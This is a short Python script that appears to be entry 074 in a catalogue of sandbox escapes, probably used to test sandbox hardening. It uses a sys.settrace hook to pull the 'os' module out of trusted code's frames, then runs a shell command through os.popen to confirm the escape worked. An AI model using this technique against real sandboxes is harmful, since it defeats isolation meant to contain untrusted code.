# escape: 074
# technique: sys.settrace sees every frame of trusted code: steal its locals and globals as it runs
# family: frame
# goal: frame
# first-seen: pysandbox; jailctf 'calc'
import sys
got = []
def t(f, e, a):
    if 'os' in f.f_globals: got.append(f.f_globals['os'])
    return t
sys.settrace(t)
import tempfile; tempfile.gettempdir()
try: tempfile.mktemp()
except Exception: pass
sys.settrace(None)
if got and got[0].popen('echo st').read() == 'st\n': print('ESCAPED:settrace')
